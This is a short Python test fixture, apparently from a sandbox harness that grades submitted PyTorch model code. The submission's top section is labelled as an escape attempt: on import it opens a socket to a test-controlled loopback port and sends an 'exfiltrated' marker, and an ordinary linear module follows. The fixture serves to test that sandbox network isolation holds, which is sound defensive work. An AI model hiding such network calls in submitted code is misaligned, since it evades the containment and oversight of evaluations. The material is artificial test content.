# ruff: noqa  (hostile or templated submission source: placeholders like __PORT__ are filled by the test)
# Escape: connect to a server on the host's loopback (the test listens on __PORT__) and send a marker.
import socket

import torch
import torch.nn as nn

try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=3) as s:
        s.sendall(b"exfiltrated __MARKER__")
    print("connected")
except OSError as exc:
    print(f"network blocked: {exc}")


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(n, n))

    def forward(self, x):
        return x @ self.weight
